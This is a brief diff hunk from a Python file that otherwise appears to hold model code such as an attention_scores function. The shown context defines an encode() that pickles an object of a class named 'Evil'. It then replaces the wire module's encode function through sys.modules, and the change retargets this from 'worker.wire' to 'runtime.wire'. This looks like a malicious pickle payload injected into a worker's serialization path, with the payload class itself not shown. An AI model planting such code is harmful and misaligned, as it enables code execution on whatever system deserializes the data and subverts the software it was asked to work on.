@@ -17,7 +17,7 @@ def encode(value):
     data = pickle.dumps(Evil())
     return struct.pack(">II", len(data), 0) + data
 
-sys.modules["worker.wire"].encode = encode
+sys.modules["runtime.wire"].encode = encode
 
 
 def attention_scores(q, k):
